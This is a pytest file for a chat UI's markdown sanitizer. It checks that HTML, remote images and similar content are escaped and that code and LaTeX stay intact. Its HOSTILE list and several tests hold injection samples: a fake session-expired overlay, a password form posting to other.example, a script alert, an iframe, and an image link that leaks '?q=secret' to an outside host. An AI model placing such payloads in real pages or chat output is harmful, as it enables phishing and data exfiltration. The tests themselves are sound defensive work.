"""safe_markdown with hand-built inputs: HTML in chat text stays text, code and LaTeX stay intact,
and images load only from this origin. The browser test (test_edge_browser) checks the same in
Chromium through the real page."""

from __future__ import annotations

import re

import pytest

from localchat.ui.adapters import render
from localchat.ui.markdown import close_open_fence, latex_config, safe_markdown

HOSTILE = [
    '<div style="position:fixed;inset:0;background:red">Session expired</div>',
    '<form action="http://other.example/x"><input type=password name=p></form>',
    '<img src="http://other.example/a.png">',
    "<video src=http://other.example/v.mp4 autoplay></video>",
    "<script>alert(1)</script>",
    "<!-- hidden --><iframe src=//other.example></iframe>",
]


def tags(markdown: str) -> list[str]:
    """The HTML tags Markdown would pass through: a `<` followed by a letter, / or !."""
    return re.findall(r"<[A-Za-z/!]", markdown)


@pytest.mark.parametrize("text", HOSTILE)
def test_html_in_prose_becomes_text(text: str) -> None:
    out = safe_markdown(text)
    assert tags(out) == [] and "&lt;" in out


def test_inline_code_shows_tags_literally_as_code() -> None:
    out = safe_markdown("wrap it in `<b>` and ``a `<i>` b``")
    assert out == "wrap it in <code>&#60;b&#62;</code> and <code>a &#96;&#60;i&#62;&#96; b</code>"


def test_fenced_code_is_left_for_markdown_to_escape() -> None:
    text = "Here:\n```html\n<b>bold</b> & <img src=x>\n```\nthen <i>"
    assert safe_markdown(text) == "Here:\n```html\n<b>bold</b> & <img src=x>\n```\nthen &lt;i>"


def test_a_fence_whose_lines_leave_its_list_item_is_not_trusted_as_code() -> None:
    text = "1. step\n   ```\nnot indented <img src=x>\n   ```"
    assert tags(safe_markdown(text)) == []


def test_a_reply_cut_off_inside_a_fence_stays_code_and_is_closed_before_the_stats() -> None:
    assert safe_markdown("```py\nif a <b:") == "```py\nif a <b:"
    assert close_open_fence("```py\nif a <b:") == "```py\nif a <b:\n```"
    assert close_open_fence("~~~~\nx\n~~~~") == "~~~~\nx\n~~~~"
    shown = render([{"role": "assistant", "content": "```\n<b>", "stats": "3 tokens"}])[0]["content"]
    assert shown == "```\n<b>\n```\n\n<sub>3 tokens</sub>"


def test_latex_is_left_to_gradio_which_escapes_it_itself() -> None:
    text = "$$a<b$$ and \\(x<y\\) and \\[p<q\\] but <b>"
    assert safe_markdown(text) == "$$a<b$$ and \\(x<y\\) and \\[p<q\\] but &lt;b>"
    # a component with fewer delimiters gets its own: \( is then prose and is escaped
    assert safe_markdown("\\(<b>\\)", (("$$", "$$"),)) == "\\(&lt;b>\\)"
    assert latex_config()[0] == {"left": "$$", "right": "$$", "display": True}


def test_latex_is_cut_out_first_as_gradio_does() -> None:
    """Gradio takes $$..$$ out before reading fences, so a fence opened inside LaTeX is no fence."""
    out = safe_markdown("$$\n```\n$$\n<img src=http://other.example/a.png>\n```")
    assert "&lt;img" in out


def test_images_from_other_hosts_become_the_text_of_their_link() -> None:
    out = safe_markdown("![x](http://other.example/?q=secret) ![y](//other.example/a) ![z][ref]\n\n[ref]: http://o/")
    assert "![" not in out and "http://other.example/?q=secret" in out
    assert safe_markdown("![logo](/favicon.ico)") == "![logo](/favicon.ico)"
    assert "![" not in safe_markdown("![x](/\\other.example/a.png)")


def test_entities_and_ampersands_show_as_typed() -> None:
    assert (
        safe_markdown("AT&T writes &lt;b&gt; and &#60;i&#62;")
        == "AT&amp;T writes &amp;lt;b&amp;gt; and &amp;#60;i&amp;#62;"
    )


def test_markdown_itself_is_untouched() -> None:
    text = "# Title\n\n- **bold** and *it*\n> quote\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nsee <https://example.com>"
    assert safe_markdown(text) == text


def test_render_escapes_user_and_assistant_text() -> None:
    shown = render(
        [
            {"role": "user", "content": "<img src=http://other.example/a.png>", "stats": ""},
            {"role": "assistant", "content": "![](http://other.example/?q=chat)", "stats": "1 token"},
        ]
    )
    assert all(tags(m["content"].replace("<sub>", "").replace("</sub>", "")) == [] for m in shown)
    assert "![" not in shown[1]["content"]
